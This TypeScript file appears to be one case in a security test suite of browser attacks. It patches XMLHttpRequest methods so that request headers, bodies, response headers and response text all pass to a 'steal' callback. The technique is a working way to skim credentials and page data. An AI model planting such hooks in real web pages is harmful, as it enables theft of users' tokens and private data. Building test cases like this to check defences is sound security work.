import { attack } from "../attack.js";

export default attack({
  name: "hooks XMLHttpRequest",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    const { open, send, setRequestHeader } = XMLHttpRequest.prototype;
    XMLHttpRequest.prototype.open = function (...args: unknown[]) {
      this.addEventListener("load", () => {
        it.steal(this.responseURL, this.getAllResponseHeaders());
        if (this.responseType === "" || this.responseType === "text") it.steal(this.responseText);
      });
      return (open as (...args: unknown[]) => void).apply(this, args);
    };
    XMLHttpRequest.prototype.setRequestHeader = function (name, value) {
      it.steal(value);
      return setRequestHeader.call(this, name, value);
    };
    XMLHttpRequest.prototype.send = function (body) {
      if (typeof body === "string") it.steal(body);
      return send.call(this, body);
    };
  },
});
